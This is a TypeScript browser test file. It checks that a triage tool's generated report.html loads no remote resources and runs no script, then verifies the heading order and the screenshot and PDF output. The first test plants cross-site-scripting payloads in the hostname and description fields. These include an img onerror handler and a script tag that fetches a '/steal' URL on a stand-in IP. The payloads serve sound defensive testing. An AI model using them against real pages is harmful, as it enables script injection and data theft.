/**
 * report.html in a real browser: self-contained (no request leaves the page), no script runs,
 * findings first, and it looks right (screenshots in test-results/screenshots/).
 */
import { writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bundleFiles } from '../../../main/bundle/contents';
import { prepareBundle } from '../../../main/bundle/prepare';
import type { Report } from '../../../main/report';
import { launchChromium, SCREENSHOTS } from '../../support/browser';
import { sampleReport } from '../../support/sample-report';

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await (browser as Browser | undefined)?.close(); // unset if beforeAll failed
});

async function htmlFile(report: Report): Promise<string> {
  const html =
    bundleFiles(prepareBundle(report, [], { level: 'standard' }))
      .get('report.html')
      ?.toString('utf8') ?? '';
  const path = join(mkdtempSync(join(tmpdir(), 'triage-html-')), 'report.html');
  writeFileSync(path, html);
  return path;
}

describe('report.html', () => {
  it('loads nothing from anywhere and runs no script, even with hostile content', async () => {
    const base = await sampleReport('win32');
    const hostile: Report = {
      ...base,
      host: { ...base.host, hostname: '<img src=http://198.51.100.9/x onerror=alert(1)>' },
      problem: {
        category: 'other',
        description:
          '<script>fetch("http://198.51.100.9/steal")</script><link rel=stylesheet href=//198.51.100.9/a.css>',
        contact: null,
      },
    };
    const page = await browser.newPage();
    const requests: string[] = [];
    const errors: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith('file://')) requests.push(r.url());
    });
    page.on('console', (m) => {
      if (m.type() === 'error') errors.push(m.text());
    });
    let dialogs = 0;
    page.on('dialog', async (d) => {
      dialogs += 1;
      await d.dismiss();
    });
    await page.goto(pathToFileURL(await htmlFile(hostile)).href);
    await page.waitForLoadState('load');
    expect(requests).toEqual([]);
    expect(dialogs).toBe(0);
    expect(await page.locator('script').count()).toBe(0);
    expect(await page.locator('h1').innerText()).toContain('<img src=');
    await page.close();
  });

  it('puts findings before the data, and shows every check', async () => {
    const report = await sampleReport('win32');
    const page = await browser.newPage({ viewport: { width: 1100, height: 1400 } });
    await page.goto(pathToFileURL(await htmlFile(report)).href);
    const headings = await page.locator('h2').allInnerTexts();
    expect(headings[0]).toMatch(/problem/i);
    expect(headings[1]).toMatch(/^Findings/);
    expect(headings.findIndex((h) => h.startsWith('Findings'))).toBeLessThan(
      headings.findIndex((h) => h.startsWith('Every check')),
    );
    expect(await page.locator('section.card[id]').count()).toBe(report.run.probes.length);
    await page.screenshot({ path: join(SCREENSHOTS, 'report-html.png'), fullPage: false });
    await page.emulateMedia({ media: 'print' });
    await page.screenshot({ path: join(SCREENSHOTS, 'report-html-print.png'), fullPage: false });
    const pdf = await page.pdf({ format: 'A4' });
    expect(pdf.length).toBeGreaterThan(10_000);
    await page.close();
  });
});
